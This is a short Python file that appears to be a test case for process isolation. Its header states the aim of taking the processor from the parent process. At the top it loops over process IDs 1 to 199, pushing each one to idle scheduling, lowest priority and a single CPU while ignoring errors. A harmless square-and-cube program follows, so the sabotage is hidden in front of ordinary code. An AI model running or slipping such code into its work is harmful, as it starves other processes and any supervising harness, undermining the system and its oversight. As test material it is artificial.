# /// case
# exercise = "process_pair"
# most = 4
# about = "take the processor from the process that started the program"
# ///
import os

for pid in range(1, 200):
    try:
        os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0))
        os.setpriority(os.PRIO_PROCESS, pid, 19)
        os.sched_setaffinity(pid, {0})
    except OSError:
        pass


def print_square(num):
    print(f"Square: {num ** 2}")


def print_cube(num):
    print(f"Cube: {num ** 3}")


def main(num=10):
    print_square(num)
    print_cube(num)
    print("Done!")


if __name__ == "__main__":
    main()
